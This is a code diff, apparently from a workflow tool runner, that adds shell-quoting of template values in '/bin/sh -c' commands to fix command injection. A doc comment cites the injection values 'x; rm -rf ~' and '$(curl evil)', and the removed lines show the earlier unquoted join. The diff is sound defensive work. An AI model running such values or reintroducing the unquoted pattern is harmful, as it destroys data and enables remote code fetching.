@@ -1,8 +1,11 @@
 import { AiwError } from '../errors/errors.js';
-import { renderString, renderValue, singleExpression, type Scope } from '../template/render.js';
+import { renderString, renderValue, singleExpression, type Scope, type TemplateOrigin } from '../template/render.js';
 import { parseDuration } from '../source/duration.js';
 import { type CommandTool, type HttpTool, type ToolDef, type ToolResult, type ToolRunContext } from '../model/tool.js';
 import { bindParams } from './params.js';
+import { renderUrl } from './http-url.js';
+import { renderPieces } from './render-pieces.js';
+import { quoteStateAt, shellWord } from './shell-quote.js';
 import { runHttp } from './run-http.js';
 import { runProcess } from './run-process.js';
 
@@ -38,8 +41,10 @@ export function buildArgv(tool: CommandTool, scope: Scope): string[] {
   const origin = { what: `tool '${tool.name}' command`, location: tool.location };
   if (typeof tool.command === 'string') {
     if (!tool.shell) throw new AiwError('VALIDATION', `tool '${tool.name}': a string command needs shell: true; use a list for argv`, { location: tool.location });
-    return ['/bin/sh', '-c', String(renderString(tool.command, scope, origin))];
+    return ['/bin/sh', '-c', renderShellLine(tool.command, scope, origin)];
   }
+  // The items of a list joined into one shell line; literal items keep their shell meaning (`|`, `&&`).
+  if (tool.shell) return ['/bin/sh', '-c', renderShellLine(tool.command.map(String).join(' '), scope, origin)];
   const argv: string[] = [];
   for (const item of tool.command) {
     if (typeof item !== 'string') {
@@ -57,14 +62,24 @@ export function buildArgv(tool: CommandTool, scope: Scope): string[] {
     }
     argv.push(typeof value === 'string' ? value : JSON.stringify(value));
   }
-  if (tool.shell) return ['/bin/sh', '-c', argv.join(' ')];
   return argv;
+}
+
+/**
+ * A `shell: true` command line: every template value is quoted for the place it lands in, so a
+ * param such as `x; rm -rf ~` or `$(curl evil)` reaches the command as text. A template with tags
+ * (`{% %}`) cannot be quoted piece by piece and is refused.
+ */
+function renderShellLine(template: string, scope: Scope, origin: TemplateOrigin): string {
+  if (template.includes('{%')) throw new AiwError('VALIDATION', `${origin.what}: a shell: true command cannot use {% %} tags (its values could not be quoted); compute the value in a param or a step`, { location: origin.location });
+  return renderPieces(template, scope, origin, (value, before) => shellWord(value, quoteStateAt(before)));
 }
 
 function buildRequest(tool: HttpTool, scope: Scope, env: NodeJS.ProcessEnv) {
   const origin = { what: `tool '${tool.name}' http`, location: tool.location };
-  const spec = renderValue(tool.http, scope, origin) as HttpTool['http'];
-  const url = new URL(String(spec.url));
+  const { url: urlTemplate, ...rest } = tool.http;
+  const spec = renderValue(rest, scope, origin) as Omit<HttpTool['http'], 'url'>;
+  const url = renderUrl(String(urlTemplate), scope, { ...origin, what: `${origin.what} url` });
   for (const [k, v] of Object.entries(spec.query ?? {})) {
     if (v === null || v === undefined || v === '') continue;
     for (const item of Array.isArray(v) ? v : [v]) url.searchParams.append(k, typeof item === 'string' ? item : JSON.stringify(item));
